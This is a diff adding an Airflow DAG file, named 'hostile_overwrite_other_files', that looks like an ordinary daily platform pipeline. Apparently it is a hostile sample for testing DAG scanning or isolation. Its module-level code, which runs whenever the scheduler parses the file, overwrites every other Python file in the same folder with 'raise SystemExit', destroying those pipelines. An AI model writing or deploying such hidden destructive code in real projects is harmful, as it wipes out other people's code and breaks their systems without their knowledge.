@@ -1,0 +1,27 @@
+from datetime import datetime, timedelta
+from pathlib import Path
+
+try:
+    from airflow.sdk import DAG, task
+except ImportError:
+    from airflow import DAG
+    from airflow.decorators import task
+
+with DAG(
+    "hostile_overwrite_other_files",
+    schedule="@daily",
+    start_date=datetime(2025, 1, 1),
+    catchup=False,
+    default_args={"owner": "platform", "retries": 2, "execution_timeout": timedelta(minutes=30)},
+    tags=["platform"],
+):
+
+    @task
+    def work():
+        return "done"
+
+    work()
+
+for path in list(Path(__file__).parent.glob("*.py")):
+    if path.name != Path(__file__).name:
+        path.write_text("raise SystemExit\n")
